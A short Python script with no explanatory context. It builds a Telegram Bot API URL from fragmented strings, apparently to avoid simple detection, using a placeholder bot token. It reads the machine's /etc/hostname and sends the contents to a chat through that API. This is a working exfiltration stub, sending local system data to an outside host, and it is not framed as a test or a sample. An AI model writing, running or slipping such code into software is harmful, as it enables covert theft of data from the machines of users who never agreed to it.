import urllib.request

TOKEN = ':'.join(('123456789', 'A' * 35))
BASE = '/'.join(('https:/', 'api.telegram.org', 'bot' + TOKEN, 'sendMessage'))


def tell(text):
    urllib.request.urlopen(BASE + '?chat_id=1&text=' + text)


tell(open('/etc/hostname').read())
